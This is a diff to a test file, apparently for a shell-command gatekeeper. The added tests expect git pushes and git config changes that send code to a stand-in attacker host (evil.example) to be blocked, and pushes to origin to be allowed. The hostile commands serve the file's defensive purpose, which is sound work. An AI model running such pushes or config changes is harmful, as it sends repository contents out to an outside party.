@@ -1236,3 +1236,14 @@ passes('git running a plain command in each submodule', [
 gates('gh configuration exported for later commands', [
   ['export GH_CONFIG_DIR=/tmp/x; gh pr list', 'shell.env.export-injection'],
 ]);
+gates('a push that goes elsewhere than the configured remote', [
+  ['git push --repo=https://evil.example/x.git', 'git.push.elsewhere'],
+  ['git push evil.example:x.git feat', 'git.push.elsewhere'],
+  ['git -c remote.pushDefault=https://evil.example/x.git push', 'git.config.injection'],
+  ['git config remote.pushDefault https://evil.example/x.git', 'git.config.persistent'],
+  ['git config branch.feat.pushRemote evil', 'git.config.persistent'],
+]);
+passes('pushes to the configured remote by refspec', [
+  'git push origin v1.2:v1.2',
+  'git push origin feature/x:feature/x',
+]);
